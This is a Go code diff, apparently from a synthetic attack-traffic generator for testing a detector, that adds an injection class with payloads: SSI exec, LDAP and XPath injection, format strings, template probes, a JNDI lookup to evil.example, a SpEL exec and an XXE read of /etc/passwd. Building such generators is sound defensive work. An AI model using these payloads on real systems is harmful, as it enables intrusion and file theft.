@@ -21,11 +21,12 @@ const (
 	ClassProbe     = "probe"     // a backup or configuration file asked for
 	ClassTypo      = "typo"      // an unintentional illegal value: an e-mail without @, a letter in a number
 	ClassSmuggle   = "smuggle"   // an injection in a body whose content type says another format
+	ClassInject    = "inject"    // other injections: SSI, LDAP, XPath, format strings, templates, JNDI
 )
 
 // Classes in the order of the report.
 var Classes = []string{ClassSQLi, ClassXSS, ClassTraversal, ClassCmd, ClassCRLF, ClassOverflow, ClassTamper,
-	ClassProbe, ClassTypo, ClassSmuggle}
+	ClassProbe, ClassTypo, ClassSmuggle, ClassInject}
 
 var (
 	xssPayloads = []string{
@@ -48,6 +49,11 @@ var (
 	crlfPayloads = []string{
 		"\r\nSet-Cookie: session=attacker", "\r\nLocation: http://evil.example/", "\r\n\r\n<html>owned</html>",
 		"\nX-Injected: 1", "%0d%0aSet-Cookie:%20a=b", "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
+	}
+	injectPayloads = []string{
+		`<!--#exec cmd="ls -la"-->`, `<!--#include virtual="/etc/passwd"-->`, `*)(uid=*))(|(uid=*`, `admin)(&(password=*))`,
+		`' or count(/child::node())=1 or '`, `'] | //user/* | a['`, `%s%s%s%s%n`, `%x%x%x%x`, `{{7*7}}`, `${7*7}`,
+		`${jndi:ldap://evil.example/a}`, `#{T(java.lang.Runtime).getRuntime().exec('id')}`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
 	}
 	probePaths = []string{
 		"/WEB-INF/web.xml", "/.git/config", "/.env", "/backup.zip", "/config.php.old", "/.htaccess", "/server-status",
@@ -195,6 +201,9 @@ func makeAttack(class string, q *Req, r *rand.Rand, sqli []string) *Req {
 	case ClassCmd:
 		p := pick(r, cmdPayloads)
 		return inject(q, r, nil, func(old string, _ Type) (string, bool) { return old + p, false })
+	case ClassInject:
+		p := pick(r, injectPayloads)
+		return inject(q, r, nil, func(old string, _ Type) (string, bool) { return appendOrReplace(r, old, p), false })
 	case ClassCRLF:
 		p := pick(r, crlfPayloads)
 		raw := strings.HasPrefix(p, "%")
